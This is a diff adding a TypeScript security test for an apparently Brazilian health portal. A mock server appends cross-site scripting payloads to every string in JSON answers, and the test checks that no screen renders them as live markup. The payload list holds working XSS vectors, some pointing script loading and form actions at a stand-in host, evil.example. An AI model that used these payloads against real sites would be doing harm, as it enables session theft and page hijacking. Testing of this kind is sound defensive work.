@@ -1,0 +1,110 @@
+/** Whatever services send as text is text: in every string and under every key, on every screen. */
+import { Parser } from 'htmlparser2';
+import { describe, expect, it } from 'vitest';
+import { type Answer, ScriptedServer } from '../support/scripted-server.ts';
+import { useScriptedPortal } from './support/portal.ts';
+import { Visitor } from './support/visitor.ts';
+import { walk } from './support/walk.ts';
+
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '</script><script>alert(1)</script>',
+  '</title></textarea></style><iframe srcdoc="<script>alert(1)</script>">',
+  'javascript:alert(1)',
+  '" onmouseover="alert(1)" x="',
+  '<a href="javascript:alert(1)">x</a>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '\u2028<object data="javascript:alert(1)">\u0000',
+  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
+  '<astro-island component-url="//evil.example/x.js" client="load">',
+  ']]>--><base href="//evil.example/"><form action="//evil.example/">',
+];
+/** Words by which the portal decides: spoilt, they would only hide the rest of the page. */
+const KEPT = /^(?:[\d\W]*|.{1,3}|token-.*|arquivos\/.*|Em aberto|Vencido|Pago|Ativo|Disponível)$/;
+
+let turn = 0;
+function spoil(value: unknown): unknown {
+  if (typeof value === 'string') {
+    if (KEPT.test(value)) return value;
+    turn += 1;
+    return `${value}${PAYLOADS[turn % PAYLOADS.length] ?? ''}`;
+  }
+  if (Array.isArray(value)) return value.map(spoil);
+  if (typeof value !== 'object' || value === null) return value;
+  const entries = Object.entries(value).map(([key, one]) => [key, spoil(one)] as const);
+  return Object.fromEntries([...entries, ...PAYLOADS.map((key) => [key, key] as const)]);
+}
+
+const spoilt =
+  (answer: Answer): Answer =>
+  (response) => {
+    const end = response.end.bind(response) as (body?: unknown) => typeof response;
+    response.end = ((body?: unknown) => {
+      const isJson = String(response.getHeader('content-type')).includes('json');
+      return end(
+        isJson && typeof body === 'string' ? JSON.stringify(spoil(JSON.parse(body))) : body,
+      );
+    }) as typeof response.end;
+    // Its head is written with the body's type, which `writeHead` would keep from `getHeader`.
+    const writeHead = response.writeHead.bind(response);
+    response.writeHead = ((status: number, headers: Record<string, string> = {}) => {
+      for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
+      return writeHead(status);
+    }) as typeof response.writeHead;
+    answer(response);
+  };
+
+class HostileServer extends ScriptedServer {
+  override on(route: string, ...answers: [Answer, ...Answer[]]): this {
+    const [first, ...rest] = answers;
+    return super.on(route, spoilt(first), ...rest.map(spoilt));
+  }
+}
+
+const scripted = useScriptedPortal({}, new HostileServer());
+
+/** What would act, or lead out of the portal. */
+function harmIn(html: string): string[] {
+  const found: string[] = [];
+  const parser = new Parser({
+    onopentag: (tag, attributes) => {
+      for (const [name, value] of Object.entries(attributes)) {
+        if (/^on/i.test(name)) found.push(`<${tag} ${name}>`);
+        if (/^(?:href|src|action|formaction|data|srcdoc|component-url|renderer-url)$/.test(name)) {
+          if (
+            /^\s*(?:javascript|vbscript|data:text)/i.test(value) ||
+            value.includes('evil.example')
+          )
+            found.push(`<${tag} ${name}="${value.slice(0, 60)}">`);
+        }
+      }
+      if (/^(?:iframe|object|embed|base|math)$/.test(tag)) found.push(`<${tag}>`);
+      if (tag === 'img' && attributes['src'] === 'x') found.push('<img src=x>');
+    },
+  });
+  parser.end(html);
+  for (const [, script = ''] of html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script/gi))
+    if (script.includes('alert(1)')) found.push(`<script>${script.slice(0, 60)}`);
+  return found;
+}
+
+describe('hostile services', () => {
+  it('put nothing on any screen that acts', async () => {
+    const visitor = new Visitor(scripted.portal.url);
+    await visitor.signIn();
+    const screens = [...(await walk(visitor)), '/horarios', '/tempo-de-espera', '/guia-medico'];
+    expect(screens.length).toBeGreaterThan(20);
+    let seen = 0;
+    for (const screen of screens) {
+      const { status, body } = await visitor.get(screen);
+      expect([200, 302, 303, 404], screen).toContain(status);
+      expect(harmIn(body), screen).toEqual([]);
+      if (body.includes('alert(1)')) seen += 1;
+    }
+    // They were there to be seen, as text.
+    expect(seen).toBeGreaterThan(10);
+  });
+});
